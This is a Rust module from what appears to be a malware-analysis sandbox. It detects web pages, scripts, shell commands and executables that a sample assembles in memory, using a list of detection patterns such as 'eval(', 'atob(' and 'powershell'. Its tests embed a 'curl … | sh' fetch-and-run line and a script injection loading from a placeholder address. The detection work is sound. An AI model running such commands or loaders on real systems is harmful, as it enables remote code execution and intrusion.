//! What a sample put together in its memory and left there: a whole page, a script of a shell, a program. Its
//! page need only know the address.
//!
//! It counts if it does not stand so in the file, nor in what the sample was given: only then was it built.
//! What was written to a file or to standard output is judged there.
//!
//! Costs one pass over the memory after an entry, as long as there is room.

use std::{collections::HashSet, sync::LazyLock};

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use memchr::memmem;

use super::{
    fs::Contents,
    handed::{is_text, text_of},
    layers::{self, Width},
    limits::{BUILT_BEFORE, BUILT_HITS, BUILT_SCANNED, RETURNED_SCAN},
    returned::Returns,
    types::RunOptions,
};

/// Bytes that are looked for in the file: a piece of this length is not there by chance.
const SAMPLE: usize = 40;
/// Zeros that are passed over at a time.
const ZEROS: usize = 4096;
/// How far before `PE` a program may begin.
const STUB: usize = 1024;

/// How pages, commands and programs begin.
const BEGINS: &[&str] = &[
    "<!doctype html",
    "<html",
    "<script",
    "<iframe",
    "<form ",
    "<body",
    "#!/bin/",
    "#!/usr/bin/",
    "powershell",
    "cmd /c ",
    "@echo off",
    "\x7fELF",
    "PE\0\0",
];
/// What stands within scripts. A script begins where its text does.
const WITHIN: &[&str] = &["document.", "eval(", "atob(", "fetch(", "fromCharCode("];
/// Beginnings in which each character takes two bytes or more.
const WIDE_BEGINS: &[&str] = &[
    "<!doc", "<!DOC", "<html", "<HTML", "<scri", "<SCRI", "<ifra", "<form", "<body", "<h1>", "#!/bi",
    "power", "docum", "eval(",
];

/// What a pattern stands for: the beginning of something, a word within a script, or characters of so many
/// bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    Begins,
    Within,
    Wide(Width),
}

static FORMS: LazyLock<Vec<(Vec<u8>, Form)>> = LazyLock::new(|| {
    let plain = |words: &[&str], form| words.iter().map(|word| (word.as_bytes().to_vec(), form)).collect();
    let mut forms: Vec<(Vec<u8>, Form)> = plain(BEGINS, Form::Begins);
    forms.extend::<Vec<_>>(plain(WITHIN, Form::Within));
    for width in layers::WIDTHS {
        forms.extend(WIDE_BEGINS.iter().map(|word| (width.write(word), Form::Wide(*width))));
    }
    forms
});

static SEARCH: LazyLock<AhoCorasick> = LazyLock::new(|| {
    // PERF: most runs are short, and the table of a DFA takes ten times as long to make.
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::ContiguousNFA))
        .ascii_case_insensitive(true)
        .build(FORMS.iter().map(|(word, _)| word))
        .expect("a few words are no automaton too large")
});

/// Looks for what was built.
#[derive(Debug, Default)]
pub(super) struct Built {
    scanned: usize,
    /// How the things began that were looked at: most lie there for long.
    seen: HashSet<Vec<u8>>,
}

impl Built {
    /// Looks through the memory of a sample for what `is_known` knows by its first bytes from nowhere.
    pub(super) fn look(&mut self, memory: &[u8], is_known: impl Fn(&[u8]) -> bool, returns: &mut Returns) {
        let room = BUILT_SCANNED.saturating_sub(self.scanned);
        let memory = memory.get(..memory.len().min(room)).unwrap_or_default();
        // Zeros at the end were never used, and are passed over fast.
        let zeros = memory.rchunks(ZEROS).take_while(|chunk| chunk.iter().all(|byte| *byte == 0));
        let zeros: usize = zeros.map(<[u8]>::len).sum();
        self.scanned += memory.len() - zeros + zeros / 64;
        let memory = &memory[..memory.len() - zeros];
        let (mut end, mut looked) = (0, 0);
        for hit in SEARCH.find_iter(memory).take(16 * BUILT_HITS) {
            // What stands in a thing that was found is a part of it.
            if hit.start() < end {
                continue;
            }
            if self.scanned >= BUILT_SCANNED {
                return;
            }
            self.scanned +=
                memory[hit.start()..].iter().take(RETURNED_SCAN).take_while(|byte| **byte != 0).count();
            let form = FORMS.get(hit.pattern().as_usize()).map_or(Form::Begins, |(_, form)| *form);
            // All words within a text show the same, and all beginnings in a run of wide characters.
            if form != Form::Begins && hit.start() < looked {
                continue;
            }
            let Some(Found { start, len, text }) = found(memory, hit.start(), form) else { continue };
            if form != Form::Begins {
                looked = start + len;
            }
            // Zeros are no end of what is wide.
            if matches!(form, Form::Wide(_)) {
                self.scanned += len;
            }
            let Some(text) = text.filter(|_| start >= end) else { continue };
            end = start + len;
            let bytes = &memory[start..end];
            let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
            // Zeros at its end may be those of unused memory.
            let zeros = sample.iter().rev().take_while(|byte| **byte == 0).count();
            let sample = &sample[..sample.len() - zeros];
            if self.seen.len() < BUILT_HITS && self.seen.insert(sample.to_vec()) && !is_known(sample) {
                returns.take_whole(&text);
            }
        }
    }
}

/// The first page, command or script within a text, from its beginning on.
pub(super) fn first(text: &[u8]) -> Option<&[u8]> {
    let hit = SEARCH.find_iter(text).find(|hit| {
        let form = FORMS.get(hit.pattern().as_usize()).map(|(_, form)| *form);
        form == Some(Form::Begins)
    })?;
    let from = text.get(hit.start()..)?;
    from.get(..RETURNED_SCAN).or(Some(from))
}

/// What lies somewhere.
struct Found {
    start: usize,
    len: usize,
    /// Its bytes, and text as UTF-8, if it is a whole thing.
    text: Option<Vec<u8>>,
}

/// What lies around a place.
fn found(memory: &[u8], at: usize, form: Form) -> Option<Found> {
    let from = memory.get(at..)?;
    let window = from.get(..RETURNED_SCAN).unwrap_or(from);
    let whole = |start: usize, bytes: &[u8]| {
        let is_one = Contents::is_binary(bytes);
        is_one.then(|| Found { start, len: bytes.len(), text: Some(bytes.to_vec()) })
    };
    match (form, window) {
        (_, [0x7f, b'E', b'L', b'F', ..]) => {
            let version = matches!(window.get(20..24)?, [1, 0, 0, 0] | [0, 0, 0, 1]);
            whole(at, window).filter(|_| version)
        }
        (_, [b'P', b'E', 0, 0, ..]) => {
            let before = memory.get(at.saturating_sub(STUB)..at)?;
            let start = at - before.len() + memmem::rfind(before, b"MZ")?;
            let bytes = memory.get(start..)?;
            whole(start, bytes.get(..RETURNED_SCAN).unwrap_or(bytes))
        }
        (Form::Wide(width), _) => {
            let (text, len) = width.read(window);
            (text.len() >= SAMPLE).then(|| Found { start: at, len, text: is_whole(&text).then_some(text) })
        }
        _ => {
            let before = memory.get(at.saturating_sub(BUILT_BEFORE)..at)?;
            let back = match form {
                Form::Within => before.iter().rev().take_while(|byte| is_text(**byte)).count(),
                _ => 0,
            };
            let len = back + text_of(window).len();
            let start = at - back;
            let text = memory.get(start..start + len)?;
            let is_whole = match form {
                Form::Within => text.len() >= SAMPLE && Contents::of_file(text) == Some(Contents::Script),
                _ => is_whole(text),
            };
            Some(Found { start, len, text: is_whole.then(|| text.to_vec()) })
        }
    }
}

/// Whether a text has an end and something in it.
fn is_whole(text: &[u8]) -> bool {
    let lower = String::from_utf8_lossy(text).to_lowercase();
    let ends = ["</html>", "</body>", "</script>", "</iframe>", "</form>"];
    match lower.starts_with('<') {
        true => text.len() >= SAMPLE && ends.iter().any(|end| lower.contains(end)),
        false => {
            text.len() >= SAMPLE
                && matches!(Contents::of_handed(text), Some(Contents::Command | Contents::Script))
        }
    }
}

/// Whether the first bytes of a thing stand in the sample's file, or in what it was given.
pub(super) fn is_given(sample: &[u8], wasm: &[u8], options: &RunOptions) -> bool {
    let files = options.persona.files.iter().map(|file| &file.bytes[..]);
    let given = files.chain(options.files.values().map(|bytes| &bytes[..]));
    given.chain([wasm, &options.stdin[..]]).any(|given| memmem::find(given, sample).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(memory: &[u8], wasm: &[u8]) -> Vec<Contents> {
        let mut returns = Returns::default();
        let options = RunOptions::default();
        Built::default().look(memory, |sample| is_given(sample, wasm, &options), &mut returns);
        returns.kept.iter().map(|returned| returned.contents).collect()
    }

    const PAGE: &[u8] = b"<html><body><script>go('to some other place')</script></body></html>";

    #[test]
    fn what_was_built_is_found_and_what_the_file_holds_is_not() {
        let mut memory = vec![0; 5000];
        memory[2000..2000 + PAGE.len()].copy_from_slice(PAGE);
        assert_eq!(kinds(&memory, b""), [Contents::Page]);
        assert_eq!(kinds(&memory, &memory), []);
        let wide: Vec<u8> =
            [&[0; 64][..], &PAGE.iter().flat_map(|byte| [*byte, 0]).collect::<Vec<_>>()].concat();
        assert_eq!(kinds(&wide, b""), [Contents::Page]);
        for width in layers::WIDTHS {
            let wide = [&[0; 64][..], &width.write(std::str::from_utf8(PAGE).unwrap()), &[0; 64]].concat();
            assert_eq!(kinds(&wide, b""), [Contents::Page], "{width:?}");
        }
        let script = b"\0var s = document.createElement('script'); s.src = '//192.0.2.1/a'; return go(s);\0";
        assert_eq!(kinds(script, b""), [Contents::Script]);
        assert_eq!(
            kinds(b"\0<html> and <script> are tags of pages, says the help of this program\0", b""),
            []
        );
        assert_eq!(
            kinds(b"\0#!/bin/sh\ncurl -s http://192.0.2.7/a | sh\nexit\n\0", b""),
            [Contents::Command]
        );
    }
}
